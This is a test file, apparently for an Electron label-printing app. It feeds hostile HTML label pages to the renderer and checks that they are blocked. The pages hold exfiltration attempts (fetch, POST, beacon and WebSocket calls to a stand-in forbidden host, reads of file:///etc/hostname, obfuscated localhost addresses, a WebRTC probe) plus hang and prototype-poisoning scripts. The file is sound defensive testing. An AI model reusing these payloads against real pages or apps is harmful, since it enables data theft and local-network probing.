import { withCharset } from '../../main/labels/charset.ts';
import { hostForLog } from '../../main/log/host-for-log.ts';
import { drawn, expectNext } from './drawn-label.ts';
import { startForbiddenHosts } from './forbidden-hosts.ts';
import { labelHtml } from './label-html.ts';
import { expect, type LabPage, readPageTexts, test } from './label-lab.ts';
import { respondWithToken, startFakePartner } from './partner-process.ts';
import { setToken, stationPage } from './station-page.ts';
import { expectHardenedWindows } from './window-preferences.ts';

// What a label page may do: its label is printed, and nothing leaves, hangs, or is read otherwise than it is shown.

/** What a hostile page knows of its surroundings. */
interface Around {
  readonly here: string;
  readonly outside: string;
  readonly stunPort: number;
}
const SVG = '<svg xmlns="http://www.w3.org/2000/svg" width="7" height="7"/>';
/** Reports the outcome of an attempt, so that the test sees that it was made. */
const tried = (name: string, expression: string): string =>
  `<script>(async () => { try { console.log('${name}: ' + await (${expression})) } catch (error) { console.log('${name}: refused ' + error.name) } })()</script>`;

/** Attempts on one page, and Chromium's or the page's own message about each. */
const ATTEMPTS: readonly [html: (around: Around) => string, said: RegExp][] = [
  [() => '<script>alert(1); confirm(1); prompt(1)</script>', /Ignored call to 'alert\(\)'/],
  [() => '<script>print()</script>', /Ignored call to 'print\(\)'/],
  [({ outside }) => tried('open', `window.open('${outside}/popup')`), /Blocked opening .* 'allow-popups'/],
  [
    ({ outside, here }) => `<iframe src="${outside}/frame"></iframe><iframe src="${here}/frame"></iframe>`,
    /frame-src/,
  ],
  [({ outside }) => `<object data="${outside}/object"></object>`, /object-src/],
  [() => '<img src="file:///etc/hostname">', /Not allowed to load local resource/],
  [() => tried('file', "fetch('file:///etc/hostname')"), /file: refused/],
  [() => tried('app', "fetch('app://tem/index.html')"), /app: refused/],
  [({ outside }) => tried('data', `fetch('${outside}/data')`), /data: refused/],
  [
    ({ outside }) =>
      tried('sent', `fetch('${outside}/data', { method: 'POST', mode: 'no-cors', body: 'x' })`),
    /sent: refused/,
  ],
  [({ outside }) => tried('beacon', `navigator.sendBeacon('${outside}/beacon', 'x')`), /beacon: /],
  [
    ({ outside }) =>
      tried(
        'socket',
        `new Promise((resolve, reject) => { const socket = new WebSocket('${outside.replace('http', 'ws')}/socket'); socket.onopen = resolve; socket.onerror = reject })`,
      ),
    /connect-src/,
  ],
  [({ here }) => tried('worker', `new Worker('${here}/worker.js')`), /worker-src/],
  [
    ({ here }) => tried('service', `navigator.serviceWorker.register('${here}/service.js')`),
    /service: refused/,
  ],
  [
    () =>
      tried(
        'where',
        'new Promise((resolve, reject) => navigator.geolocation.getCurrentPosition(resolve, reject))',
      ),
    /where: refused/,
  ],
  [
    ({ stunPort }) =>
      tried(
        'rtc',
        `new Promise((resolve) => {
          const connection = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${stunPort}' }] });
          const candidates = [];
          connection.onicecandidate = ({ candidate }) =>
            candidate === null ? resolve(candidates.length + ' candidates') : candidates.push(candidate);
          connection.createDataChannel('x');
          connection.setLocalDescription();
        })`,
      ),
    /rtc: 0 candidates/,
  ],
];
const clicked = (attributes: string): string =>
  `<a ${attributes}>x</a><script>document.querySelector('a').click()</script>`;
/** Ways to leave the page, or to keep it: each has a page of its own. */
const LEAVING: readonly ((around: Around) => string)[] = [
  ({ outside }) => `<script>location = '${outside}/away'</script>`,
  ({ here }) => `<script>setTimeout(() => { location = '${here}/elsewhere' }, 5)</script>`,
  () => '<script>addEventListener("load", () => location.reload())</script>',
  ({ outside }) => clicked(`href="${outside}/link"`),
  ({ here }) => clicked(`download href="${here}/file.zip"`),
  ({ outside }) => `<meta http-equiv="refresh" content="0; url=${outside}/refresh">`,
  ({ outside }) =>
    `<form method="post" action="${outside}/form"></form><script>document.forms[0].submit()</script>`,
  () => '<script>history.back(); setTimeout(() => history.go(-1), 5)</script>',
  () => '<script>onbeforeunload = (event) => { event.preventDefault(); return "stay" }</script>',
  () => `<p>${'x '.repeat(300_000)}</p>`,
  () => '<div>'.repeat(20_000),
];

test('prints the label and lets nothing out, whatever its page tries', async ({ label, labApp, host }) => {
  const [code = ''] = host.codes;
  const forbidden = await startForbiddenHosts();
  const around = { here: host.url, outside: forbidden.url, stunPort: forbidden.stunPort };
  const asked = host.requests.length;
  const pages = [ATTEMPTS.map(([html]) => html(around)).join(''), ...LEAVING.map((html) => html(around))];
  for (const [at, html] of pages.entries()) {
    const what = html.slice(0, 80);
    // The huge and the deep page take seconds on a busy machine.
    const answer = await label(drawn(code) + html, { limits: { partsMs: 30_000 } });
    expect(answer.problem, what).toBeNull();
    expect((await readPageTexts(answer)).join(), what).toContain(code);
    // The page is still the one that main received.
    expect(await labApp.evaluate(() => labelLab.address()), what).toContain('/orders/awb?token=t');
    const said = (): Promise<string> => labApp.evaluate(() => labelLab.said.join('\n'));
    if (at === 0) for (const [, word] of ATTEMPTS) await expect.poll(said).toMatch(word);
  }
  expect(forbidden.requests).toEqual([]);
  // A frame of the page's own host is shown; the page lacks others, and is loaded twice.
  expect(host.requests.slice(asked)).toEqual(['GET /frame', 'GET /frame']);
  await expectNext(label, labApp, code);
  await forbidden.close();
});

/** Notations for this machine's address; `outside` listens there. */
const THIS_MACHINE = [
  '127.0.0.1',
  '0x7f.1',
  '2130706433',
  'LOCALHOST.',
  'any.localhost',
  '0.0.0.0',
  '[::ffff:127.0.0.1]',
];

test('gives a page nothing of this machine except the partner’s own, in any notation of the address', async ({
  label,
  labApp,
  host,
  outside,
}) => {
  const [code = ''] = host.codes;
  const asked = outside.requests.length;
  const { port } = new URL(outside.url);
  const parts = THIS_MACHINE.flatMap((name) => [
    `<img src="http://${name}:${port}/a.png">`,
    `<script src="//${name}:${port}/a.js"></script>`,
    `<link rel="stylesheet" href="http://${name}:${port}/a.css">`,
  ]);
  const answer = await label(`${parts.join('')}<img src="/own.png">${drawn(code)}`);
  // Refused requests are not waited for.
  expect(answer).toMatchObject({ problem: null, settled: { quiet: true } });
  expect((await readPageTexts(answer)).join()).toContain(code);
  expect(outside.requests.slice(asked)).toEqual([]);
  expect(host.requests).toContain('GET /own.png');
  const refused = await labApp.evaluate(() => labelLab.logged);
  const hosts = new Set(THIS_MACHINE.map((name) => new URL(`http://${name}`).hostname));
  expect(refused).toHaveLength(hosts.size);
  expect(refused).toEqual(
    [...hosts].map((named) =>
      expect.objectContaining({
        event: 'label subresource refused',
        host: hostForLog(named),
        why: 'not-public',
      }),
    ),
  );
  expect(JSON.stringify(refused)).not.toContain('token');

  // A page of another host gets no more.
  expect((await label(`<img src="/private.png">${drawn(code)}`, { partner: [] })).problem).toBeNull();
  expect(host.requests).not.toContain('GET /private.png');
});

test('loads only what the page names, sends nothing there, and trusts no untrusted certificate', async ({
  label,
  labApp,
  host,
}) => {
  const [code = ''] = host.codes;
  const { tlsUrl, requests, close } = await startForbiddenHosts();
  // All are public addresses: the script assembles 8.8.8.8 and 8.8.4.4; the page contains 9.9.9.9.
  const html = `<link rel="stylesheet" href="/own.css"><img src="${tlsUrl}/a.png">${drawn(code)}<script>
    const at = (...parts) => 'https://' + parts.join('.');
    new Image().src = at(8, 8, 8, 8) + '/?secret';
    fetch(at(8, 8, 4, 4), { mode: 'no-cors' }).catch(() => undefined);
    fetch('https://9.9.9.9/', { method: 'POST', mode: 'no-cors', body: 'secret' }).catch(() => undefined);
    new FontFace("b", "url(http://10.255.255." + "2/b.woff)").load().catch(() => 0);
  </script>`;
  const answer = await label(html, { partner: [new URL(host.url).origin, tlsUrl] });
  expect(answer).toMatchObject({ problem: null, settled: { quiet: true } });
  // The stylesheet names one font's host, so its address is judged; nothing names the other one.
  expect(await labApp.evaluate(() => labelLab.logged)).toEqual(
    expect.arrayContaining([
      expect.objectContaining({ host: '[public]', type: 'image', why: 'not-named' }),
      expect.objectContaining({ host: '[public]', why: 'method' }),
      { event: 'label subresource refused', host: '[private]', type: 'font', why: 'not-public' },
      { event: 'label subresource refused', host: '[private]', type: 'font', why: 'not-named' },
    ]),
  );
  // The page's policy already refuses what scripts request themselves.
  expect((await labApp.evaluate(() => labelLab.said)).join()).toMatch(/8\.8\.4\.4.*connect-src/s);
  expect(requests).toEqual([]);
  await close();
});

test('shows parts of the partner’s own: redirected, with a query, as data or as a blob, lazily and late', async ({
  label,
  labApp,
}) => {
  const partner = await startFakePartner(({ url = '' }, response) => {
    if (url.startsWith('/away')) response.writeHead(302, { location: '/part?a=1' }).end();
    else response.writeHead(200, { 'content-type': 'image/svg+xml' }).end(SVG);
  });
  const shown = (name: string, src: string): string =>
    `<img src="${src}" onload="console.log('${name}: ' + this.naturalWidth)">`;
  const html = `<p id="late">x</p>${shown('query', '/part?q=a%20b#c')}${shown('redirected', '/away?to')}
    ${shown('data', `data:image/svg+xml,${encodeURIComponent(SVG)}`)}
    <script>
      const blob = URL.createObjectURL(new Blob([${JSON.stringify(SVG)}], { type: 'image/svg+xml' }));
      document.body.insertAdjacentHTML('beforeend', ${JSON.stringify(shown('blob', 'BLOB'))}.replace('BLOB', blob));
      fetch('/part').then(({ status }) => console.log('fetched: ' + status));
      addEventListener('load', () => setTimeout(() => late.append('LATE'), 40));
      // Once it is ready, a page gets nothing more.
      addEventListener('beforeprint', () => fetch('/late').then(() => console.log('late: came'), () => console.log('late: refused')));
    </script>
    <div style="height:50000px"></div><img loading="lazy" width="10" height="10" src="/lazy.svg">`;
  const answer = await label(html, { url: `${partner.url}/awb?token=t`, partner: [partner.url] });
  expect(answer).toMatchObject({ problem: null, settled: { quiet: true } });
  expect((await readPageTexts(answer)).join()).toContain('LATE');
  await expect
    .poll(() => labApp.evaluate(() => labelLab.said))
    .toEqual(
      expect.arrayContaining([
        'query: 7',
        'redirected: 7',
        'data: 7',
        'blob: 7',
        'fetched: 200',
        'late: refused',
      ]),
    );
  expect(partner.requests).toContain('GET /lazy.svg');
  expect(partner.requests).not.toContain('GET /late');
  await partner.close();
});

const NEVER_QUIET: Readonly<Record<string, string>> = {
  'changes and grows':
    '<i></i><script>setInterval(() => { document.querySelector("i").textContent = performance.now(); document.body.append(document.createElement("i")) }, 5)</script>',
  // Each answer is waited for in the page's thread: nothing else can find it quiet meanwhile.
  'asks for ever':
    '<script>(function ask() { const one = new XMLHttpRequest(); one.open("GET", "/data?" + Math.random(), false); one.send(); setTimeout(ask) })()</script>',
};
const HANGS: readonly [html: string, limits: NonNullable<LabPage['limits']>][] = [
  ['<script>for (;;);</script>', { loadMs: 1_000 }],
  ['<script>setTimeout(() => { for (;;); }, 30)</script>', { loadMs: 1_000 }],
  ['<script>addEventListener("beforeprint", () => { for (;;); })</script>', { pdfMs: 1_000 }],
];
test('takes a page that is never quiet as it is at the limit, and fails one that hangs or crashes, alone', async ({
  label,
  labApp,
  host,
}) => {
  const [code = ''] = host.codes;
  for (const [what, html] of Object.entries(NEVER_QUIET)) {
    const answer = await label(drawn(code) + html);
    expect(answer, what).toMatchObject({ problem: null, settled: { quiet: false } });
    expect((await readPageTexts(answer)).join(), what).toContain(code);
  }
  const blocked = await label(`<img src="/never.png"><script src="/never.js"></script>${drawn(code)}`);
  expect(blocked.problem).toBeNull();
  expect((await readPageTexts(blocked)).join()).toContain(code);

  for (const [html, limits] of HANGS) {
    const { problem } = await label(drawn(code) + html, { limits });
    const detail = `${'pdfMs' in limits ? 'render' : 'load'}: > 1000 ms`;
    expect(problem, html).toMatchObject({ code: 'label-page-failed', values: { detail } });
    await expectNext(label, labApp, code);
  }

  const answered = label(`${drawn(code)}<script>fetch("/never"); console.log("about to crash")</script>`);
  await expect.poll(() => labApp.evaluate(() => labelLab.said)).toContain('about to crash');
  await labApp.evaluate(({ BrowserWindow }) =>
    BrowserWindow.getAllWindows()[0]?.webContents.forcefullyCrashRenderer(),
  );
  expect((await answered).problem).toMatchObject({ code: 'label-page-failed' });
  await expectNext(label, labApp, code);
});

test('leaves nothing of one page to the next, and prints no earlier page in place of a later one', async ({
  label,
  labApp,
  host,
}) => {
  const [first = '', second = ''] = host.codes;
  const leave = '<script>localStorage.setItem("a", "left"); document.cookie = "a=left"</script>';
  expect((await label(drawn(first) + leave)).problem).toBeNull();
  const look = '<script>console.log("found:" + localStorage.getItem("a") + document.cookie)</script>';
  expect((await label(drawn(second) + look)).problem).toBeNull();
  expect(await labApp.evaluate(() => labelLab.said)).toContain('found:null');
  const gone = { code: 'label-page-failed', values: { detail: expect.stringContaining('page gone') } };
  expect((await labApp.evaluate(() => labelLab.again('before'))).problem).toMatchObject(gone);
  // The existing page is not harmed.
  expect(await readPageTexts(await labApp.evaluate(() => labelLab.again('last')))).toEqual([
    expect.stringContaining(second),
  ]);
  await labApp.evaluate(({ BrowserWindow }) => BrowserWindow.getAllWindows()[0]?.destroy());
  expect((await labApp.evaluate(() => labelLab.again('last'))).problem).toMatchObject(gone);
  await expectNext(label, labApp, first);
});

test('reads the title and the beginning of the text that a page shows, in its charset', async ({ label }) => {
  const shown = await label('<p>Mã in <b>đã hết hạn</b></p><p hidden>hidden</p><script>"a script"</script>');
  // Chromium takes the address, with the print token, as the title of a page without one.
  expect({ ...shown, text: shown.text.trim() }).toMatchObject({
    problem: null,
    title: '',
    text: 'Mã in đã hết hạn',
  });
  const long = await label(`<title>In đơn hàng</title><p>${'chữ '.repeat(50_000)}</p>`);
  expect([long.title, long.text.length]).toEqual(['In đơn hàng', 20_000]);
  expect((await label('<frameset></frameset>')).text).toBe('');
  const html = '<p>Nguyễn Thị Định</p>';
  const contentType = withCharset('text/html', new TextEncoder().encode(`<!doctype html>${html}`));
  expect((await label(html, { contentType })).text.trim()).toBe('Nguyễn Thị Định');
});

/** What the probes read of a document, and other properties that they pass through. */
const OF_DOCUMENTS =
  'body documentElement fonts images querySelectorAll createElement createTreeWalker defaultView head'.split(
    ' ',
  );
/** What the probes read of an element. A form exposes its controls by name before its own properties. */
const OF_ELEMENTS =
  'parentElement children childNodes innerText textContent getBoundingClientRect computedStyleMap nodeValue src width'.split(
    ' ',
  );

test('neither the names of elements nor changed prototypes change what Tem reads and measures', async ({
  label,
  host,
}) => {
  const style =
    '<style>@page { margin: 0 } body, form { margin: 0 } #label { width: 300px; height: 400px }</style>';
  const own = `<p>Nhãn ${host.codes[0]}</p>`;
  const controls = OF_ELEMENTS.map((name) => `<input hidden name="${name}">`).join('');
  const images = OF_DOCUMENTS.map((name) => `<img name="${name}" id="${name}" hidden src="data:,">`).join('');
  // The page's own scripts see the changes: they set its title.
  const pages = {
    plain: `<title>true</title><div id="label">${own}</div>`,
    'names in the document': `<div id="label">${own}</div>${images}
      <script>document.title = ${JSON.stringify(OF_DOCUMENTS)}.every((name) => document[name] instanceof HTMLImageElement)</script>`,
    'controls of a form': `<form id="label">${own}${controls}</form>
      <script>document.title = ${JSON.stringify(OF_ELEMENTS)}.every((name) => document.forms[0][name] instanceof HTMLInputElement)</script>`,
    prototypes: `<div id="label">${own}</div><script>
      const wrong = () => { throw new Error('of the page'); };
      const { set: setTitle } = Object.getOwnPropertyDescriptor(Document.prototype, 'title');
      for (const of of [Document, Element, HTMLElement, Node, Array, String, Map, Set, Promise, MutationObserver, TreeWalker])
        for (const name of Object.getOwnPropertyNames(of.prototype))
          if (name !== 'constructor')
            try { Object.defineProperty(of.prototype, name, { get: wrong, configurable: true }); } catch {}
      for (const name of ['setTimeout', 'requestIdleCallback', 'getComputedStyle', 'performance', 'Map', 'Set', 'Promise'])
        Object.defineProperty(self, name, { get: wrong, configurable: true });
      try { document.body } catch { setTitle.call(document, 'true') }
    </script>`,
  };
  for (const [what, page] of Object.entries(pages)) {
    const answer = await label(style + page);
    expect({ ...answer, text: answer.text.trim() }, what).toMatchObject({
      problem: null,
      title: 'true',
      text: `Nhãn ${host.codes[0]}`,
      settled: { blockMm: { widthMm: 79.4, heightMm: 105.9 } },
    });
  }
});

test('the whole app prints a hostile page with only its label, in the two windows, and then the next page', async ({
  harness,
  fakePartner,
  outside,
}) => {
  const asked = outside.requests.length;
  let round = 0;
  const partner = await fakePartner(
    respondWithToken((_request, response) => {
      const code = partner.codes[round++] ?? '';
      response.setHeader('content-type', 'text/html; charset=utf-8');
      response.end(`${labelHtml([{ barcodes: [code.split('.')[1] ?? ''], text: code }])}<script>
        window.open('${outside.url}/popup'); alert(1); print();
        fetch('${outside.url}/data'); location.href = '${outside.url}/away';
      </script>`);
    }),
  );
  // Labels do not need what is refused here; else each would be held.
  const labelHosts = [{ address: '127.0.0.1/data', rule: 'ignore' as const }];
  harness.writeServiceSettings(partner, { labelHosts });
  const { app, page } = await harness.start();
  await setToken(page, 'any');
  for (const [at, code] of partner.codes.entries()) {
    await stationPage(page).scan(code);
    await page.keyboard.press('F9');
    await stationPage(page).expectStates(partner.codes.slice(0, at + 1).map(() => 'printed'));
  }
  expect(outside.requests.slice(asked)).toEqual([]);
  // The station's window, and at most one for each of the two documents processed at a time.
  expect(await app.evaluate(({ BrowserWindow }) => BrowserWindow.getAllWindows().length)).toBeLessThanOrEqual(
    3,
  );
  await expectHardenedWindows(app);
  // A label page has neither Tem's preload nor Node.
  const globals = await app.evaluate(({ BrowserWindow }) =>
    Promise.all(
      BrowserWindow.getAllWindows()
        .filter(({ webContents }) => !webContents.getURL().startsWith('app:'))
        .map(
          ({ webContents }): Promise<unknown> =>
            webContents.executeJavaScript(
              "['tem', 'require', 'process', 'module'].filter((name) => name in globalThis)",
            ),
        ),
    ),
  );
  expect(globals).not.toEqual([]);
  expect(globals.flat()).toEqual([]);
});
